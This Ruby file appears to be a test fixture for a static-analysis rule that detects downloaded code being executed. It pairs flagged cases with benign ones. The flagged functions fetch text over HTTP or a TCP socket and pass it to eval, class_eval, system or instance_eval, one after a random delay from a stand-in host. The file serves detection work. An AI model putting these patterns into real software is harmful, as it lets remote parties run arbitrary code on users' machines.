require 'net/http'
require 'open-uri'
require 'json'

def refresh
  Thread.new do
    sleep rand * 600
    # ruleid: ruby-download-executed
    eval(Net::HTTP.get(URI('https://cdn.example.net/a.txt')))
  end
end

def extend_model(address)
  text = URI.open(address).read
  # ruleid: ruby-download-executed
  Object.class_eval(text)
end

def prepare(address)
  answer = RestClient.get(address)
  script = answer.body
  # ruleid: ruby-download-executed
  system(script)
end

def order(host)
  peer = TCPSocket.new(host, 4000)
  line = peer.gets
  # ruleid: ruby-download-executed
  instance_eval(line)
end

def version(address)
  list = JSON.parse(Net::HTTP.get(URI(address)))
  # ok: ruby-download-executed
  system("git", "checkout", list["tag"])
end

def store(address)
  # ok: ruby-download-executed
  File.write("list.txt", URI.open(address).read)
end

def template(path)
  text = File.read(path)
  # ok: ruby-download-executed
  instance_eval(text, path)
end

def ping(address)
  status = Net::HTTP.get_response(URI(address)).code
  # ok: ruby-download-executed
  system("logger #{status}")
end
